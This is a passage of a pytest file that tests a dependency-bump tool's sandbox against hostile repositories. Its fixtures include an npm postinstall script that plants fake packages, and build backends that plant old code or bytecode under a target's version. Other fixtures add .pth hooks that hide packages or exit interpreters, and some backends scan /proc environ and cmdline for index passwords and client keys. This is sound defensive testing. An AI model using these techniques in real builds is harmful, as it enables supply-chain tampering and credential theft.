"""A repository's install-time code (an npm install script run by the baseline's `npm rebuild`, a Python
build backend run by the baseline's install; both in the sandbox, the environment writable) tries to make
the bump test code of its own under the target's name: the bump's environment is a copy of what that code
left. Each through `agentic-codemod run --offline` with real npm, node, uv and bubblewrap, the packages from
local fixtures.

Each task's target fails the repository's tests (an honest requires_human, exit 3); the planted package
claims the target's version and holds the old code, on which they pass: a green run would be a false
success. Before the fix every one of them was green (exit 0) but the `parent` route (npm installed into
ENV/node_modules, the listing found no target: exit 1)."""

from __future__ import annotations

import base64
import contextlib
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fixtures_support import ROOT, PrivateIndex, materialize, npm_registry, private_index, wheel

from agentic_codemod.tools import sandbox

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sandbox.probe() is not None, reason=f"bwrap cannot start here: {sandbox.probe()}"),
]
needs_npm = pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")

TASK = ROOT / "fixtures" / "npm-tasks" / "acme-sdk-2-plain.yml"

# Runs in ENV/project, the environment's copy of the repository, after `npm ci` installed acme-sdk 1.x.
PLANTER = """const fs = require("fs"), path = require("path");
function fake(dir) {  // acme-sdk's 1.x code under the name and version of the target
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name: "acme-sdk", version: "2.0.0" }));
  fs.copyFileSync(path.join("node_modules", "acme-sdk", "index.js"), path.join(dir, "index.js"));
  fs.writeFileSync(path.join(dir, "PLANTED"), "by the repository's postinstall");
}
const route = process.argv[2];
fs.writeFileSync("planter-ran", route);
if (route === "workspace") {  // ENV/project's own package.json names a workspace called acme-sdk
  const manifest = JSON.parse(fs.readFileSync("package.json", "utf8"));
  manifest.workspaces = ["vendored"];
  fs.writeFileSync("package.json", JSON.stringify(manifest));
  fake("vendored");
} else if (route === "parent") {  // npm walks up from ENV/project to a workspace root in ENV
  const root = { name: "env", private: true, workspaces: ["project", "vendored"] };
  fs.writeFileSync(path.join("..", "package.json"), JSON.stringify(root));
  fake(path.join("..", "vendored"));
}
"""


def hostile_app(tmp_path: Path, route: str) -> Path:
    src = tmp_path / "src"
    shutil.copytree(ROOT / "fixtures" / "npm-app", src)
    manifest = json.loads((src / "package.json").read_text())
    manifest["scripts"]["postinstall"] = f"node planter.js {route}"
    (src / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")
    (src / "planter.js").write_text(PLANTER)
    repo = tmp_path / "repo"
    materialize.materialize(src, repo)
    return repo


@needs_npm
@pytest.mark.parametrize("route", ["workspace", "parent"])
def test_attack_an_install_script_puts_its_own_package_in_the_targets_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, run_codemod: Callable[..., object], route: str
) -> None:
    with npm_registry(tmp_path, monkeypatch):
        result = run_codemod(hostile_app(tmp_path, route), TASK, packages=False)
    m = result.manifest  # type: ignore[attr-defined]
    run_dir: Path = result.run_dir  # type: ignore[attr-defined]
    assert (run_dir / "env" / "project" / "planter-ran").read_text() == route  # the script ran
    assert result.code == 3, m["reason"]  # type: ignore[attr-defined]
    assert m["status"] == "requires_human" and m["classification"] != "green"
    assert m["environments"]["after"] == {"acme-sdk": "2.0.0"}
    assert m["verifications"][-1]["tests"]["failing"] == [
        "orders > loads an order by id",
        "reports > runs a named operation",
    ]
    after = run_dir / "env-after" if (run_dir / "env-after").is_dir() else run_dir / "env"
    installed = after / "project" / "node_modules" / "acme-sdk"
    assert not installed.is_symlink() and not (installed / "PLANTED").exists()
    assert "2.0.0" in (installed / "index.js").read_text()  # the registry's 2.0.0
    assert sorted(p.name for p in after.iterdir()) == ["project"]  # the script's ENV/package.json gone


# --- Python: the build backend of the baseline's install ---------------------------------

# The repository's own build backend (pyproject.toml: backend-path ["."]) runs while the baseline's install
# builds the project, in the install box, the environment writable: it writes widget's 1.0 code under a
# dist-info for 1.1.0 into the environment's site-packages (found by VIRTUAL_ENV, which the box sets, or
# by the box's writable mounts), so the installer takes widget as installed, then builds the project.
PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "app"
version = "0.1"
dependencies = ["widget>=1,<2"]
"""
BACKEND = """import glob, os, zipfile


def plant():
    roots = [os.environ.get("VIRTUAL_ENV", "")]
    with open("/proc/self/mountinfo") as mounts:
        roots += [line.split()[4] for line in mounts if " rw," in line]
    for root in roots:
        for site in glob.glob(os.path.join(root, "lib", "python3*", "site-packages")):
            if not os.access(site, os.W_OK):
                continue
            os.makedirs(os.path.join(site, "widget"), exist_ok=True)
            with open(os.path.join(site, "widget", "__init__.py"), "w") as f:
                f.write("__version__ = '1.0.0'  # planted by the build backend\\n")
            dist = os.path.join(site, "widget-1.1.0.dist-info")
            os.makedirs(dist, exist_ok=True)
            files = {"METADATA": "Metadata-Version: 2.1\\nName: widget\\nVersion: 1.1.0\\n",
                     "RECORD": "widget/__init__.py,,\\nwidget-1.1.0.dist-info/METADATA,,\\n",
                     "INSTALLER": "uv\\n"}
            for name, text in files.items():
                with open(os.path.join(dist, name), "w") as f:
                    f.write(text)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        plant()
    except Exception:
        pass
    name = "app-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        whl.writestr("app-0.1.dist-info/METADATA",
                     "Metadata-Version: 2.1\\nName: app\\nVersion: 0.1\\nRequires-Dist: widget>=1,<2\\n")
        whl.writestr("app-0.1.dist-info/WHEEL",
                     "Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        whl.writestr("app-0.1.dist-info/RECORD", "")
    return name


build_editable = build_wheel
"""
WIDGET_TEST = """import widget


def test_widget_is_the_old_one():
    assert widget.__version__ == "1.0.0"  # fails on the real 1.1.0
"""
WIDGET_TASK = """\
id: widget-1-1
title: Bump widget to 1.1.0
sdk: {name: widget, ecosystem: python, from: ">=1,<2", to: "1.1.0"}
allowed_paths: ["pyproject.toml"]
acceptance_criteria:
  - "the tests pass on widget 1.1.0"
"""


def package_wheel(dest: Path, version: str) -> None:
    """widget `version` as a package, widget/__init__.py."""
    wheel(dest, "widget", version)


def run_with_backend(
    tmp_path: Path,
    wheels: Path,
    run_codemod: Callable[..., object],
    backend: str,
    widget_wheel: Callable[[Path, str], None],
    test: str = WIDGET_TEST,
    pyproject: str = PYPROJECT,
    task: str = WIDGET_TASK,
    sources: Callable[[Path], list[str]] = lambda house: ["--find-links", str(house), "--no-index"],
) -> Any:
    """The widget-1.1 task run on an app whose in-tree build backend is `backend`, widget 1.0.0 and 1.1.0
    (made by `widget_wheel`) beside the fixture wheelhouse: the only package source, by default a local
    folder (`sources`: the run's options for that folder)."""
    house = tmp_path / "wheels"
    shutil.copytree(wheels, house, ignore=shutil.ignore_patterns("acme_sdk-*"))
    for version in ("1.0.0", "1.1.0"):
        widget_wheel(house, version)
    src = tmp_path / "src"
    (src / "tests").mkdir(parents=True)
    (src / "pyproject.toml").write_text(pyproject)
    (src / "backend.py").write_text(backend)
    (src / "tests" / "test_widget.py").write_text(test)
    repo = tmp_path / "app"
    materialize.materialize(src, repo)
    (tmp_path / "task.yml").write_text(task)
    return run_codemod(repo, tmp_path / "task.yml", *sources(house), packages=False)


def test_attack_a_build_backend_leaves_the_old_code_under_the_targets_dist_info(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object]
) -> None:
    """widget 1.1.0 is inside the task's from range, so a baseline listing of 1.1.0 passes; before, the
    bump's uv install took the planted dist-info as installed (nothing to do) and the tests ran on
    the backend's 1.0 code: green, exit 0. Now the bump's pins are installed afresh: the real 1.1.0 fails
    the repository's test, exit 3."""
    result = run_with_backend(tmp_path, wheels, run_codemod, BACKEND, package_wheel)
    m = result.manifest  # type: ignore[attr-defined]
    assert m["environments"]["after"]["widget"] == "1.1.0"
    assert result.code == 3, m["reason"]  # type: ignore[attr-defined]
    assert m["classification"] != "green"
    assert m["verifications"][-1]["tests"]["failing"], m["verifications"][-1]


# widget as a single module (widget.py), and a backend that plants a widget/ package beside it: Python
# imports the package before the module, and an installer never removes what no RECORD lists.
SHADOW_BACKEND = BACKEND.replace(
    """            dist = os.path.join(site, "widget-1.1.0.dist-info")""",
    """            continue  # no dist-info: the package alone, into every writable site-packages
            dist = os.path.join(site, "widget-1.1.0.dist-info")""",
)


def module_wheel(dest: Path, version: str) -> None:
    """widget `version` as one top-level module, widget.py."""
    single_module_wheel(dest, "widget", version, f"__version__ = {version!r}\n")


def single_module_wheel(dest: Path, name: str, version: str, source: str, requires: str = "") -> None:
    """`name` `version` as one top-level module, `name`.py holding `source`; `requires`: a Requires-Dist."""
    dist = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    files = {
        f"{name}.py": source,
        f"{dist}/METADATA": metadata + (f"Requires-Dist: {requires}\n" if requires else ""),
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{dist}/RECORD"] = "".join(f"{path},,\n" for path in files) + f"{dist}/RECORD,,\n"
    with zipfile.ZipFile(dest / f"{name}-{version}-py3-none-any.whl", "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)


def test_attack_a_build_backend_plants_a_package_that_shadows_the_targets_module(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object]
) -> None:
    """The planted widget/ package survives the bump's reinstall of widget (its RECORD lists widget.py
    only), and the tests import it instead of widget.py: before, green on the backend's code (exit 0,
    the second review's reproduction with an `__init__.so`). Now the bump's install fails, naming it; and
    the canary's SDK check finds the baseline's tests importing the planted package, which ends the run
    first (the bump's refusal is its step's result)."""
    result = run_with_backend(tmp_path, wheels, run_codemod, SHADOW_BACKEND, module_wheel)
    m = result.manifest  # type: ignore[attr-defined]
    assert m["verifications"][0]["passed"]  # the baseline's tests ran on the planted package
    assert m["verifications"][0]["sdk_resolution"] == "elsewhere"  # ... and the canary saw it
    assert result.code == 3 and m["classification"] != "green", m["reason"]
    assert m["reason"].startswith("baseline: the tests' own module loader resolves 'widget' outside"), m
    refused = "installing widget 1.1.0 failed: widget is not in widget's RECORD, and Python imports it before"
    bump = next(s for s in m["steps"] if s["step"] == "bump")
    assert f"{refused} widget.py" in bump["result"], m
    assert [v["phase"] for v in m["verifications"]] == ["baseline"]  # nothing tested on the candidate


# An unchecked-hash .pyc of the old code for widget.py (Python loads it without looking at the source),
# in a __pycache__ the backend makes read-only: the installer's own compile skips it without failing.
PYC_BACKEND = BACKEND.replace(
    """            os.makedirs(os.path.join(site, "widget"), exist_ok=True)""",
    """            import py_compile, sys
            cache = os.path.join(site, "__pycache__")
            os.makedirs(cache, exist_ok=True)
            old = os.path.join(os.getcwd(), "_old_widget.py")
            with open(old, "w") as f:
                f.write("__version__ = '1.0.0'  # planted bytecode\\\\n")
            pyc = os.path.join(cache, "widget." + sys.implementation.cache_tag + ".pyc")
            unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
            py_compile.compile(old, cfile=pyc, invalidation_mode=unchecked)
            os.chmod(cache, 0o555)
            continue""",
)


def test_attack_a_build_backend_plants_bytecode_for_the_targets_module_in_a_read_only_cache(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object]
) -> None:
    """The third review's reproduction: before, green on the planted bytecode (exit 0). Now the pins'
    bytecode is written afresh on the host after the bump's install: the real 1.1.0 fails the test."""
    result = run_with_backend(tmp_path, wheels, run_codemod, PYC_BACKEND, module_wheel)
    m = result.manifest  # type: ignore[attr-defined]
    assert m["verifications"][0]["passed"]  # the baseline's tests ran on the planted bytecode
    assert m["environments"]["after"]["widget"] == "1.1.0"
    assert result.code == 3, m["reason"]  # type: ignore[attr-defined]
    assert m["verifications"][-1]["tests"]["failing"], m["verifications"][-1]


# widget 1.1.0 takes its version from gadget, a dependency new in 1.1.0 that the baseline's environment
# does not hold; the backend plants the old value as gadget's unchecked-hash bytecode, in the read-only
# __pycache__ where gadget.py will be installed: the bump's installer writes gadget.py beside it and its
# compile skips the folder; Python then loads the planted bytecode without a look at the source.
NEW_DEPENDENCY_PYC_BACKEND = PYC_BACKEND.replace(
    "__version__ = '1.0.0'  # planted bytecode", "VERSION = '1.0.0'  # planted bytecode"
).replace('"widget." + sys.implementation.cache_tag', '"gadget." + sys.implementation.cache_tag')


def widget_with_a_new_dependency(dest: Path, version: str) -> None:
    if version == "1.0.0":
        module_wheel(dest, version)
        return
    single_module_wheel(dest, "widget", version, "from gadget import VERSION as __version__\n", "gadget>=1")
    single_module_wheel(dest, "gadget", "1.0.0", f"VERSION = {version!r}\n")


# The second route (the review's): beforehand, an empty dist-info of gadget's name in another
# site-packages, which Python and uv ignore; what the install wrote was told by folder names alone.
DECOY_DIST_INFO = NEW_DEPENDENCY_PYC_BACKEND.replace(
    """            os.chmod(cache, 0o555)
            continue""",
    """            os.chmod(cache, 0o555)
            decoy = os.path.join(root, "lib", "python3.99", "site-packages", "gadget-1.0.0.dist-info")
            os.makedirs(decoy, exist_ok=True)
            continue""",
)


@pytest.mark.parametrize("route", ["bytecode", "and a decoy dist-info"])
def test_attack_a_build_backend_plants_bytecode_for_a_dependency_the_target_newly_brings_in(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object], route: str
) -> None:
    """Before, only the pins' bytecode was written afresh on the host: gadget's planted bytecode stood, and
    the run was green on it (exit 0; with the decoy, exit 0 on the first version of the fix too). Now the
    host writes the bytecode of every distribution the bump's install added or replaced, told by the
    dist-info's site and identity: the real gadget makes widget 1.1.0, which fails the test; with the decoy
    beside it, two dist-infos name gadget and the install was refused; since the host's check of the
    listing (one site-packages only), the baseline's listing already is unreadable: a human's, untested."""
    below = PYPROJECT.replace('"widget>=1,<2"', '"widget>=1,<1.1"')  # the baseline: 1.0.0, no gadget
    backend = NEW_DEPENDENCY_PYC_BACKEND if route == "bytecode" else DECOY_DIST_INFO
    task = WIDGET_TASK.replace('from: ">=1,<2"', 'from: ">=1,<1.1"')
    result = run_with_backend(
        tmp_path, wheels, run_codemod, backend, widget_with_a_new_dependency, pyproject=below, task=task
    )
    m = result.manifest  # type: ignore[attr-defined]
    run_dir: Path = result.run_dir  # type: ignore[attr-defined]
    if route != "bytecode":  # the decoy's second site-packages: the listing is read as nothing (_on_disk)
        assert (result.code, m["status"]) == (3, "requires_human"), m["reason"]  # type: ignore[attr-defined]
        assert m["reason"].startswith("the baseline environment cannot be listed"), m["reason"]
        assert m["verifications"] == []  # nothing tested at all
        return
    assert m["verifications"][0]["passed"]  # the baseline ran on widget 1.0.0, which has no gadget
    assert "gadget" not in m["environments"]["baseline"]
    planted = next((run_dir / "env").glob("lib/python3*/site-packages/__pycache__/gadget.*.pyc"), None)
    assert planted is not None  # the backend ran and planted it (in the baseline's environment)
    assert m["classification"] != "green", m["reason"]
    assert (m["environments"]["after"]["widget"], m["environments"]["after"]["gadget"]) == ("1.1.0", "1.0.0")
    assert result.code == 3, m["reason"]  # type: ignore[attr-defined]
    assert m["verifications"][-1]["tests"]["failing"], m["verifications"][-1]


# A .pth into every writable site-packages: each interpreter start in the environment, the listing's
# included, prints `[[[[…` 100,000 deep as it exits, after what the listing printed; in the `after` route
# only in the listing (uv's interpreter query would fail the install first) of the bump's environment
# (the copy the tool names env-after), so the baseline's listing reads.
DEEP_LINE = {
    "baseline": "import atexit; atexit.register(print, '[' * 100000)",
    "after": "import atexit, sys; atexit.register(lambda: LISTING and sys.prefix.endswith('-after') and "
    "print('[' * 100000))".replace("LISTING", "hasattr(sys.modules['__main__'], 'by_importlib')"),
}


def deep_pth_backend(route: str) -> str:
    return BACKEND.replace(
        """            os.makedirs(os.path.join(site, "widget"), exist_ok=True)""",
        f"""            with open(os.path.join(site, "deep.pth"), "w") as f:
                f.write({DEEP_LINE[route]!r})
            continue""",
    )


@pytest.mark.parametrize("route", ["baseline", "after"])
def test_attack_a_build_backend_makes_the_environment_listing_end_in_json_nested_past_the_parsers_depth(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object], route: str
) -> None:
    """Before, json's RecursionError (no ValueError) ended the run as `failed`, exit 1, with the error's text
    for a reason. Now the listing is unreadable, and the run says so: the baseline's before any test
    (exit 3), the bump's before the candidate's tests (exit 1). Before this reason an unreadable listing
    said "holds widget (not installed)"."""
    passes = "import widget\n\n\ndef test_widget_imports():\n    assert widget.__version__\n"
    result = run_with_backend(tmp_path, wheels, run_codemod, deep_pth_backend(route), module_wheel, passes)
    m = result.manifest  # type: ignore[attr-defined]
    reason = m["reason"]
    assert m["environments"][route] is None and m["classification"] != "green", reason
    if route == "baseline":
        assert (result.code, m["status"]) == (3, "requires_human"), reason  # type: ignore[attr-defined]
        assert reason.startswith("the baseline environment cannot be listed (the listing of what is")
        assert m["verifications"] == []  # no test ran
    else:
        assert (result.code, m["status"]) == (1, "rejected"), reason  # type: ignore[attr-defined]
        assert reason.startswith("the environment after the bump cannot be listed (the listing of what is")
        assert m["environments"]["baseline"]["widget"] == "1.1.0"
        assert [v["phase"] for v in m["verifications"]] == ["baseline"]  # the candidate was not tested


@pytest.mark.slow
def test_attack_a_run_dir_used_again_keeps_nothing_an_earlier_repository_left_in_its_environments(
    acme_repo: Path, run_codemod: Callable[..., Any]
) -> None:
    """helper-30's F1: a runner that reuses --run-dir (the worktree removed, the rest left) copied the
    template over the earlier run's venvs, so a .pth the earlier repository's build wrote into them ran in
    this run's tests (a plugin there turned failures into passes: exit 0). Now a run starts without any
    environment, copy, home or tmp an earlier run left."""
    first = run_codemod(acme_repo, "acme-sdk-2-rules.yml")
    assert first.code == 0, first.manifest["reason"]
    planted = []
    for env in ("env", "env-after"):
        site = next((first.run_dir / env).glob("lib/python3*/site-packages"))
        planted.append(site / "zz_earlier_run.pth")  # exits every Python of this venv at its start
        planted[-1].write_text("import sys; sys.exit(7)\n")
    shutil.rmtree(first.run_dir / "worktree")
    again = run_codemod(acme_repo, "acme-sdk-2-rules.yml", "--run-dir", str(first.run_dir))
    # before: the planted .pth ran in this run's install (exit 3; a quieter one would run in its tests)
    assert again.code == 0, json.loads((first.run_dir / "run.json").read_text())["reason"]
    assert not any(p.exists() for p in planted)


@pytest.mark.slow
def test_a_run_dir_of_the_callers_keeps_its_own_folders(
    acme_repo: Path, run_codemod: Callable[..., Any]
) -> None:
    """helper-32: the emptying above removed env/, tmp/ … in any --run-dir, a folder of the caller's too
    (a thesis in tmp/ was gone). Only a dir a run marked is emptied so."""
    run_dir = acme_repo.parent / "mine"
    (run_dir / "tmp").mkdir(parents=True)
    (run_dir / "tmp" / "thesis.tex").write_text("precious\n")
    (run_dir / "run.json").write_text('{"experiment": 3}\n')  # a run.json of the caller's marks nothing
    result = run_codemod(acme_repo, "acme-sdk-2-rules.yml", "--run-dir", str(run_dir))
    assert result.code == 0, json.loads((run_dir / "run.json").read_text())["reason"]
    assert (run_dir / "tmp" / "thesis.tex").read_text() == "precious\n"
    assert (run_dir / ".agentic-codemod-run").exists()


# Records, into the project it builds, what of the caller's index settings it could read: variables and
# the certificate copies the tool puts into the install's working directory.
PEEKING_BACKEND = BACKEND.replace(
    """    try:
        plant()
    except Exception:
        pass
""",
    """    saw = sorted(k for k in os.environ if k.startswith(("UV_INDEX", "UV_DEFAULT", "PIP_", "SSL_")))
    certs = ".codemod-pip"
    saw += [certs + "/" + f for f in (os.listdir(certs) if os.path.isdir(certs) else [])]
    saw += [k for k, v in os.environ.items() if "s3cret-index-pass" in v]
""",
).replace(
    """        whl.writestr("app-0.1.dist-info/RECORD", "")""",
    """        whl.writestr("backend_saw.py", "SAW = %r\\n" % (saw,))
        whl.writestr("app-0.1.dist-info/RECORD", "")""",
)
SAW_NOTHING = """import backend_saw
import widget


def test_the_build_saw_no_credential():
    assert backend_saw.SAW == []
    assert widget.__version__ in ("1.0.0", "1.1.0")
"""


def test_attack_a_build_backend_gets_no_index_credential_where_the_install_reaches_no_index(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """helper-37: with `--no-index` the caller's extra index (its password) still went to the install as
    UV_INDEX and its client key into the copy (.codemod-pip/), where the repository's build backend runs;
    a backend baked them into the project and a test printed them, base64, into run.json. An install that
    reaches no index now gets none of the caller's index settings."""
    key = tmp_path / "client.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nNOTAKEY\n-----END PRIVATE KEY-----\n")
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", "https://user:s3cret-index-pass@pypi.example/simple")
    monkeypatch.setenv("PIP_CLIENT_CERT", str(key))
    result = run_with_backend(tmp_path, wheels, run_codemod, PEEKING_BACKEND, module_wheel, test=SAW_NOTHING)
    m = result.manifest  # type: ignore[attr-defined]
    assert result.code == 0 and m["status"] == "succeeded", m["reason"]  # type: ignore[attr-defined]
    assert all(v["passed"] for v in m["verifications"]) and len(m["verifications"]) == 2


INDEX_PASSWORD = "s3cret-front-index-pass"
# Bakes into the project whatever of the caller's index password it finds: in its variables, in any
# process's command line or environment the box shows it (the installer's, bwrap's), in the copies the
# tool used to put into the install's working directory.
PROBING_BACKEND = BACKEND.replace(
    """    try:
        plant()
    except Exception:
        pass
""",
    f"""    secret = {INDEX_PASSWORD!r}
    saw = [k + "=" + v for k, v in os.environ.items() if secret in v]
    for proc in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(proc, "rb").read()
        except OSError:
            continue
        saw += [data.decode(errors="replace")] if secret.encode() in data else []
    certs = ".codemod-pip"
    saw += [open(os.path.join(certs, f)).read() for f in (os.listdir(certs) if os.path.isdir(certs) else [])]
""",
).replace(
    """        whl.writestr("app-0.1.dist-info/RECORD", "")""",
    """        whl.writestr("backend_saw.py", "SAW = %r\\n" % (saw,))
        whl.writestr("app-0.1.dist-info/RECORD", "")""",
)
SAW_NOTHING_PRINTED = """import base64
import backend_saw
import widget


def test_the_build_saw_no_credential():
    print(base64.b64encode(repr(backend_saw.SAW).encode()).decode())
    assert backend_saw.SAW == []
    assert widget.__version__ in ("1.0.0", "1.1.0")
"""


def test_attack_a_build_backend_gets_no_index_credential_where_the_install_reaches_a_private_index(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The caller's private index (pip.conf's index-url with a password), reached over the network: the
    installs that run the repository's build backend used to get it as UV_DEFAULT_INDEX / PIP_INDEX_URL,
    on bwrap's command line too. The backend baked it into the project, a test printed it base64 into
    run.json, past the Redactor. Now the tool's index front holds it (index_front.py): the installs get
    the front's URL, and the run is green with packages that came through the front."""
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_NO_INDEX", "PIP_CLIENT_CERT"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PIP_RETRIES", "0")
    with contextlib.ExitStack() as stack:

        def private(house: Path) -> list[str]:
            monkeypatch.setenv("PIP_INDEX_URL", stack.enter_context(private_index(house, INDEX_PASSWORD)))
            return []

        result = run_with_backend(
            tmp_path, wheels, run_codemod, PROBING_BACKEND, module_wheel, SAW_NOTHING_PRINTED, sources=private
        )
        served = list(PrivateIndex.seen)
    m = result.manifest  # type: ignore[attr-defined]
    run_dir: Path = result.run_dir  # type: ignore[attr-defined]
    # the artifacts, not the repository's own checkout (its backend.py names the password to look for)
    artifacts = [
        p for p in run_dir.rglob("*") if p.is_file() and "worktree" not in p.relative_to(run_dir).parts
    ]
    written = b"".join(p.read_bytes() for p in artifacts)
    for form in (INDEX_PASSWORD, base64.b64encode(INDEX_PASSWORD.encode()).decode()):
        assert form.encode() not in written
    assert result.code == 0 and m["status"] == "succeeded", m["reason"]  # type: ignore[attr-defined]
    assert all(v["passed"] for v in m["verifications"]) and len(m["verifications"]) == 2
    assert m["installs"]["baseline"].get("index_front") and m["installs"]["after"].get("index_front")
    assert any(path.startswith("/packages/widget-1.1.0") for path in served), served


# helper-39: an in-tree backend that the lock refresh (`uv lock`) runs, and that fails naming, hex-encoded,
# whatever the tool copied of the caller's pip settings into the copy it runs in (.codemod-pip/).
LOCK_PEEKING_BACKEND = """import os, zipfile
META = "Metadata-Version: 2.1\\nName: acme-app\\nVersion: 0.1\\nRequires-Dist: acme-sdk>=1.4,<2\\n"
def _peek():
    d = ".codemod-pip"
    if os.path.isdir(d):
        seen = [open(os.path.join(d, f), "rb").read().hex() for f in os.listdir(d)]
        raise SystemExit("LEAK " + " ".join(seen))
def prepare_metadata_for_build_wheel(md, config_settings=None):
    _peek()
    os.makedirs(os.path.join(md, "acme_app-0.1.dist-info"))
    open(os.path.join(md, "acme_app-0.1.dist-info", "METADATA"), "w").write(META)
    return "acme_app-0.1.dist-info"
def build_wheel(wd, config_settings=None, metadata_directory=None):
    _peek()
    name = "acme_app-0.1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wd, name), "w") as whl:
        whl.writestr("acme_app-0.1.dist-info/METADATA", META)
        wheel = "Wheel-Version: 1.0\\nGenerator: b\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
        whl.writestr("acme_app-0.1.dist-info/WHEEL", wheel)
        whl.writestr("acme_app-0.1.dist-info/RECORD", "")
    return name
build_editable = build_wheel
def get_requires_for_build_wheel(config_settings=None):
    return []
get_requires_for_build_editable = get_requires_for_build_wheel
"""
LOCKED_PYPROJECT = """[project]
name = "acme-app"
dynamic = ["version"]
requires-python = ">=3.10"
dependencies = ["acme-sdk>=1.4,<2"]

[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[tool.pytest.ini_options]
pythonpath = ["src"]
testpaths = ["tests"]
"""


def test_attack_a_backend_the_lock_refresh_runs_gets_no_client_key_where_nothing_is_reached(
    tmp_path: Path, wheels: Path, run_codemod: Callable[..., object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With `--no-index` the installs got none of the caller's pip settings, but the lockfile refresh
    still copied the caller's client certificate and key into the copy `uv lock` ran the repository's
    backend in: it failed naming the key (hex), and run.json, plan.json and report.html carried it past
    the Redactor. A lock tool whose box reaches nothing gets none of them either."""
    from agentic_codemod.adapters.python.installer import find_uv

    uv = find_uv()
    if uv is None:
        pytest.skip("uv is not installed")
    key = "-----BEGIN PRIVATE KEY-----\nCALLERS-CLIENT-KEY-0123456789\n-----END PRIVATE KEY-----\n"
    (tmp_path / "client.pem").write_text(key)
    monkeypatch.setenv("PIP_CLIENT_CERT", str(tmp_path / "client.pem"))
    src = tmp_path / "src"
    shutil.copytree(ROOT / "fixtures" / "acme-app", src)
    (src / "pyproject.toml").write_text(LOCKED_PYPROJECT)
    (src / "backend.py").write_text(LOCK_PEEKING_BACKEND)
    lock = [uv.program, "lock", "--offline", "--no-index", "--find-links", str(wheels), "-q"]
    env = {"PATH": "/usr/bin:/bin", "UV_CACHE_DIR": str(tmp_path / "uv-cache"), "HOME": str(tmp_path)}
    subprocess.run(lock, cwd=src, env=env, check=True, capture_output=True)
    repo = tmp_path / "app"
    materialize.materialize(src, repo)
    task = (ROOT / "fixtures" / "tasks" / "acme-sdk-2-rules.yml").read_text()
    (tmp_path / "task.yml").write_text(
        task.replace("allowed_paths: [", 'allowed_paths: ["pyproject.toml", "uv.lock", ', 1)
    )
    result = run_codemod(repo, tmp_path / "task.yml")
    m = result.manifest  # type: ignore[attr-defined]
    written = "".join(p.read_text(errors="replace") for p in result.run_dir.iterdir() if p.is_file())  # type: ignore[attr-defined]
    assert key.encode().hex() not in written and "LEAK" not in written
    # the backend ran in the refresh (then uv found no index to lock against: --no-index), saw nothing
    assert "Built acme-app" in m["reason"] and "lockfile not refreshed" in m["reason"], m["reason"]


# A dependency that hides the SDK from the environment's listing: its .pth runs a module at every start of
# the environment's interpreter, which drops acme-sdk's dist-info from os.listdir. Where the repository
# neither declares nor imports acme-sdk, the run installs its dependencies alone and asks the listing whether
# they brought acme-sdk in: its "no" ended the run `nothing_to_do`, exit 0, untested, while acme-widgets
# breaks on 2.1.0 (acme.errors is 1.x's).
HIDES_THE_SDK = (
    "import os\n\n_listdir = os.listdir\n\n\n"
    "def listdir(path='.'):\n"
    "    return [n for n in _listdir(path) if not str(n).lower().startswith('acme_sdk-')]\n\n\n"
    "os.listdir = listdir\n"
)


def test_attack_a_dependency_that_hides_the_sdk_from_the_listing_never_ends_a_run_untested(
    make_repo, run_codemod, tmp_path: Path
) -> None:
    house = tmp_path / "house"
    house.mkdir()
    files = {
        "acme_widgets/__init__.py": "from acme.errors import *  # noqa: F403\n",
        "acme_widgets_hide.py": HIDES_THE_SDK,
        "acme_widgets_hide.pth": "import acme_widgets_hide\n",
    }
    wheel(house, "acme_widgets", "1.0.0", requires=("acme-sdk",), files=files)
    repo = make_repo(
        "hides-the-sdk",
        {
            "requirements.txt": "acme-widgets==1.0.0\n",
            "src/acme_app": None,
            "tests": None,
            "tests/test_widgets.py": "import acme_widgets\n\n\ndef test_ready():\n    assert acme_widgets\n",
        },
    )
    result = run_codemod(repo, "acme-sdk-2.yml", "--find-links", str(house))
    m = result.manifest
    assert (result.code, m["status"]) == (3, "requires_human"), m["reason"]
    assert "whether they install acme-sdk is not known" in m["reason"], m["reason"]
    assert m["verifications"] == [] and result.artifact("changes.patch").read_bytes() == b""


# helper-49: a dependency's .pth runs wherever the environment's interpreter starts with the environment
# writable: uv's byte-compile after the first install, its interpreter query at the start of every later
# one. There it renames acme-sdk's dist-info out of the way and leaves its code (acme/) where it is.
UNREGISTERS = (
    "import os, sys\n"
    "_argv = ' '.join(getattr(sys, 'orig_argv', []))\n"
    "for _d in sys.path:\n"
